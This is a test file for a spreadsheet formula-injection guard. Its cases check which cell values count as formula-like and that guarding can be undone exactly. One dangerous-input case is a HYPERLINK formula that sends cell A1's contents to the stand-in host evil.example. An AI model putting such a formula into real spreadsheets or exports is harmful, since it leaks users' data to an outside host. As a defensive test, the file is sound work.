import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guard, isFormulaLike, unguard } from '../../../shared/text/formula-guard.ts';

describe('what a spreadsheet could run', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    '+1-800-555',
    '-5%',
    '- a point in a list',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\nnote',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '  =1+1',
    '\u00a0\u3000=1+1',
    ' \t=1+1',
    '=1+1\nsecond line',
  ])('is taken for dangerous: %j', cell => {
    expect(isFormulaLike(cell)).toBe(true);
  });

  it.each([
    '',
    'Trade has doubled.',
    '– an en dash opens this line of speech',
    '— so does an em dash',
    "'=1+1",
    '-5',
    '+3.25',
    '-.5',
    '-1e9',
    '“=1+1” he wrote',
    'a = b',
    '۔ اردو',
  ])('is left alone: %j', cell => {
    expect(isFormulaLike(cell)).toBe(false);
  });
});

it('can be taken back exactly, whatever the cell said', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), cell => unguard(guard(cell)) === cell));
});

it('never leaves a cell that begins like a formula', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝', "'", 'a', '1') }),
      cell => {
        const written = isFormulaLike(cell) ? guard(cell) : cell;
        return (
          !/^[\s]*[=@＝＠]/.test(written) &&
          (!/^[\s]*[+\-＋－]/.test(written) || Number.isFinite(Number(written)))
        );
      },
    ),
  );
});
